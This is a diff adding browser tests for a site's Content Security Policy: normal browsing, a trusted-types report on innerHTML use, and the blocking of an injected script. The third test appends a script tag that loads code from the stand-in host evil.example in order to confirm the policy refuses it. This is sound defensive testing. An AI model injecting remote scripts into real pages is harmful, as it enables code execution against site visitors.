@@ -1,0 +1,37 @@
+import { siteOf } from '../harness/customers.ts';
+import { expectPlaying } from '../harness/frames.ts';
+import { expect, test } from '../harness/portal.ts';
+import { recordedMatch } from '../harness/world.ts';
+
+/** Every test of this house fails on a report; these visit what most viewers do, and prove that a report would be heard. */
+test.describe('the policy of a page', { tag: '@nordic' }, () => {
+  test('is broken by none of our own: menus, lists, a player', async ({ page }) => {
+    await page.goto(`${siteOf('nordic')}/`);
+    await page.mouse.wheel(0, 400);
+    await page.getByRole('link', { name: 'Archive' }).first().click();
+    await expect(page).toHaveURL(/\/archive\//);
+    const { id } = await recordedMatch();
+    await page.goto(`${siteOf('nordic')}/events/${id}/`);
+    await expectPlaying(page);
+  });
+
+  test('tells of text that could become a script, without refusing it yet', async ({ page, watch }) => {
+    await page.goto(`${siteOf('nordic')}/live/`, { waitUntil: 'domcontentloaded' });
+    const said = page.waitForEvent('console', (message) => message.text().startsWith('Policy (report)'));
+    await page.evaluate(() => void (document.createElement('div').innerHTML = '<b></b>'));
+    expect((await said).text()).toContain('require-trusted-types-for');
+    watch.forgive(/Policy \(report\)/);
+  });
+
+  test('refuses a script that is not ours, and tells of it', async ({ page, watch }) => {
+    await page.goto(`${siteOf('nordic')}/live/`, { waitUntil: 'domcontentloaded' });
+    const said = page.waitForEvent('console', (message) => message.text().startsWith('Policy (enforce)'));
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/x.js';
+      document.head.append(script);
+    });
+    expect((await said).text()).toContain('script-src-elem refuses https://evil.example/x.js');
+    watch.forgive(/evil\.example|Policy \(report\)/);
+  });
+});
